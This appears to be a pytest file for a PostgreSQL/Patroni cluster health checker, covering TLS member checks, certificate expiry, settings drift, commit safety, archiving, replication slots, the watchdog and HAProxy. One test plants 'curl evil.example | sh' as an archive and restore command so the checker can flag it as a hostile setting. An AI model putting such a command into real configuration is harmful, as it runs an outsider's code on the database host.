"""`leadmill cluster check` by parts: each answer that it may get becomes the right finding."""

from __future__ import annotations

import json
import pwd
import ssl
import threading
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import replace
from http.server import BaseHTTPRequestHandler, HTTPServer
from pathlib import Path
from typing import Any
from unittest.mock import MagicMock

import pytest

from leadmill.cluster import certificates, checking
from leadmill.cluster.certificates import Authority
from leadmill.cluster.checking import Files, Finding, Seen
from leadmill.cluster.description import Description
from leadmill.cluster.preparing import commands, dynamic_configuration
from leadmill.stack import ports
from leadmill.stack.ports import LOOPBACK
from tests.integration.cluster.test_preparing import EXAMPLE


@pytest.fixture
def described() -> Description:
    return Description.read(EXAMPLE)


def codes(found: list[Finding]) -> list[str]:
    return sorted(f"{one.level} {one.code}" for one in found if one.level != "ok")


# --- Members --------------------------------------------------------------------------------------


class Patroni(BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        body = json.dumps({"role": "replica", "members": []}).encode()
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *_: object) -> None:
        pass


@contextmanager
def patroni(folder: Path, authority: Authority, described: Description) -> Iterator[Description]:
    """All members are one server, with a certificate of this authority."""
    authority.sign(folder, "member", ("n1", LOOPBACK))
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(folder / "member.crt", folder / "member.key")
    server = HTTPServer((LOOPBACK, 0), Patroni)
    server.socket = context.wrap_socket(server.socket, server_side=True)
    # Clients that refuse the certificate are no fault of the server.
    server.handle_error = lambda *_: None  # type: ignore[method-assign]
    running = threading.Thread(target=server.serve_forever)
    running.start()
    try:
        yield at(described, server.server_port)
    finally:
        server.shutdown()
        running.join()
        server.server_close()


def at(described: Description, port: int) -> Description:
    members = tuple(replace(one, address=LOOPBACK, patroni_port=port) for one in described.members)
    return replace(described, members=members)


def test_who_can_ask_nobody_does_not_say_that_nobody_leads(
    tmp_path: Path, described: Description
) -> None:
    (tmp_path / "ca.crt").write_bytes(Authority.at(tmp_path / "a", "ca").pem())
    port = ports.anywhere()["postgres"]
    seen, found = checking._members(at(described, port), Files(tmp_path))
    assert codes(found) == ["critical members_not_asked"]
    assert "ConnectError" in found[0].text
    assert seen == Seen()


def test_what_tls_refuses_is_named(tmp_path: Path, described: Description) -> None:
    (tmp_path / "ca.crt").write_bytes(Authority.at(tmp_path / "a", "ca").pem())
    other = Authority.at(tmp_path / "b", "ca")
    with patroni(tmp_path, other, described) as there:
        _, found = checking._members(there, Files(tmp_path))
        assert codes(found) == ["critical members_not_asked"]
        assert "TLS fails: unable to get local issuer certificate" in found[0].text
        # One of three: it is that member's.
        (tmp_path / "ca.crt").write_bytes(other.pem())
        one, *rest = there.members
        away = ports.anywhere()["postgres"]
        there = replace(there, members=(one, *(replace(m, patroni_port=away) for m in rest)))
        _, found = checking._members(there, Files(tmp_path))
        assert codes(found).count("warning member_away") == 2
        assert "critical no_leader" in codes(found)


def test_certificates_and_authorities_that_end_are_found(
    tmp_path: Path, described: Description, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(certificates, "DAYS", 30)
    authority = Authority.at(tmp_path / "a", "ca")
    (tmp_path / "ca.crt").write_bytes(authority.pem())
    monkeypatch.setattr(certificates, "AUTHORITY_DAYS", 100)
    (tmp_path / "etcd-ca.crt").write_bytes(Authority.at(tmp_path / "a", "etcd-ca").pem())
    with patroni(tmp_path, authority, described) as there:
        found = checking._certificates(there, Files(tmp_path))
        assert [(one.code, one.about) for one in found] == [
            *(("certificate_ends", f"member {name}") for name in ("n1", "n2", "n3")),
            ("authority_ends", "authority etcd-ca.crt"),
        ]
        # etcd's own, where this machine may ask it.
        for name in ("crt", "key"):
            (tmp_path / f"etcd.{name}").write_bytes((tmp_path / f"member.{name}").read_bytes())
        (tmp_path / "etcd-ca.crt").write_bytes(authority.pem())
        ends = tuple(replace(m, etcd_client_port=m.patroni_port) for m in there.members)
        found = checking._certificates(replace(there, members=ends), Files(tmp_path))
        assert {one.about for one in found if one.code == "certificate_ends"} == {
            f"{kind} {name}" for kind in ("member", "etcd") for name in ("n1", "n2", "n3")
        }


def test_settings_that_nobody_described_are_found(described: Description) -> None:
    there: dict[str, Any] = json.loads(json.dumps(dynamic_configuration(described)))
    assert codes(checking._settings(described, there | {"pause": True})) == []
    there["postgresql"]["parameters"]["archive_command"] = "curl evil.example | sh"
    there["standby_cluster"] = {"restore_command": "curl evil.example | sh"}
    found = checking._settings(described, there)
    assert codes(found) == ["warning settings_differ"] * 2
    assert "is not described" in found[0].text


# --- PostgreSQL -----------------------------------------------------------------------------------


def asked(described: Description, **changed: Any) -> list[Finding]:
    """What is found where PostgreSQL answers this."""
    wanted = commands(described)
    answers = {
        "settings": (
            False,
            described.name,
            "on",
            True,
            10 << 30,
            changed.get("archive_mode", wanted["archive_mode"]),
            changed.get("archive_command", wanted["archive_command"]),
            changed.get("archiving_fails", False),
        ),
        "commits": changed.get("commits", []),
        "slots": changed.get("slots", []),
    }

    def execute(query: str) -> MagicMock:
        name = {
            checking._SETTINGS: "settings",
            checking._COMMITS: "commits",
            checking._SLOTS: "slots",
        }[query]
        answer = answers[name]
        return MagicMock(fetchone=lambda: answer, fetchall=lambda: answer)

    return list(checking._asked(described, execute))


@pytest.mark.parametrize("value", ["on", "ON", "true", "Yes", "1", "remote_apply", "'on'", '"on"'])
def test_commits_that_are_on_two_machines(described: Description, value: str) -> None:
    assert codes(asked(described, commits=[("leadmill_api", value)])) == []


@pytest.mark.parametrize(
    "value", ["off", "OFF", "local", "'Local'", "remote_write", "false", "no", "0", "f", ""]
)
def test_commits_that_are_not(described: Description, value: str) -> None:
    found = asked(described, commits=[("leadmill_api", value)])
    assert codes(found) == ["critical commits_not_safe"]
    assert "leadmill_api" in found[0].text


def test_archiving_is_as_described(described: Description) -> None:
    assert codes(asked(described)) == []
    assert codes(asked(described, archive_mode="off")) == ["warning not_archived"]
    assert codes(asked(described, archive_command="true")) == ["warning archiving_differs"]
    assert codes(asked(described, archiving_fails=True)) == ["warning not_archived"]
    without = replace(described, archive=False)
    assert codes(asked(without, archiving_fails=True)) == [], "that was before it was switched off"
    assert codes(asked(without, archive_command="true")) == [], "it is not called"
    assert codes(asked(without, archive_mode="on", archive_command="true")) == [
        "warning archiving_differs"
    ]


@pytest.mark.parametrize(
    ("slot", "said"),
    [
        ((True, "reserved", 100, 1), []),
        ((True, "extended", 6 << 30, 1), ["warning slot_behind"]),
        ((True, "unreserved", 11 << 30, 1), ["warning slot_behind"]),
        ((False, "lost", None, 1), ["critical slot_lost"]),
        ((False, "reserved", 100, 1), ["warning slot_unused"]),
        ((True, "reserved", 100, 2_000_000), ["warning slot_holds_rows"]),
    ],
)
def test_slots(described: Description, slot: tuple[object, ...], said: list[str]) -> None:
    assert codes(asked(described, slots=[("n2", *slot)])) == said


# --- Watchdog -------------------------------------------------------------------------------------


def test_the_watchdog_is_what_patroni_holds(
    tmp_path: Path, described: Description, monkeypatch: pytest.MonkeyPatch
) -> None:
    device, processes = tmp_path / "watchdog", tmp_path / "proc"
    monkeypatch.setattr(checking, "WATCHDOG", device)
    monkeypatch.setattr(checking, "PROCESSES", processes)
    leads = Seen({"n1": {}}, "n1")

    def found(seen: Seen = leads, here: str = "n1", mode: str = "automatic") -> list[str]:
        return codes(checking._watchdog(replace(described, watchdog=mode), seen, here))

    assert found(mode="off") == []
    assert found(here="app1") == ["unknown watchdog_not_seen"]
    assert found() == ["warning no_watchdog"]
    assert found(mode="required") == ["critical no_watchdog"]
    failed = Seen({"n2": {"watchdog_failed": True}}, "n1")
    assert found(failed, "app1", "required") == [
        "critical no_watchdog",
        "unknown watchdog_not_seen",
    ]
    device.touch()
    assert found() == ["unknown watchdog_not_seen"], "no Patroni is to be seen"
    own, other = processes / "100", processes / "200"
    for one, command in ((own, b"patroni\0/etc/patroni.yml\0"), (other, b"watchdogd\0")):
        (one / "fd").mkdir(parents=True)
        (one / "cmdline").write_bytes(command)
    (other / "fd" / "3").symlink_to(device)
    assert found() == ["warning no_watchdog"], "something else holds it"
    (own / "fd" / "9").symlink_to(device)
    assert found() == []
    # A member that follows does not hold it, and may be unable to.
    monkeypatch.setattr(pwd, "getpwnam", lambda _: MagicMock(pw_uid=device.stat().st_uid))
    assert found(here="n2") == ["unknown watchdog_not_seen"]
    monkeypatch.setattr(pwd, "getpwnam", lambda _: MagicMock(pw_uid=device.stat().st_uid + 1))
    assert found(here="n2") == ["warning no_watchdog"]


def test_haproxy_is_not_judged_by_what_is_not_known(
    tmp_path: Path, described: Description, monkeypatch: pytest.MonkeyPatch
) -> None:
    there = replace(described, proxy=replace(described.proxy, folder=str(tmp_path)))
    rows = "# pxname,svname,status\nprimary,n1,UP\nreplicas,n2,UP\n"
    answer = MagicMock()
    answer.raise_for_status.return_value.text = rows
    client: Callable[..., MagicMock] = MagicMock()
    client.return_value.__enter__.return_value.get.return_value = answer  # type: ignore[attr-defined]
    monkeypatch.setattr("leadmill.cluster.checking.httpx.Client", client)
    assert codes(checking._proxy(there, Seen())) == []
    assert codes(checking._proxy(there, Seen({"n1": {}}, "n1"))) == []
    assert codes(checking._proxy(there, Seen({"n1": {}}, "n2"))) == [
        "critical haproxy_other_primary"
    ]
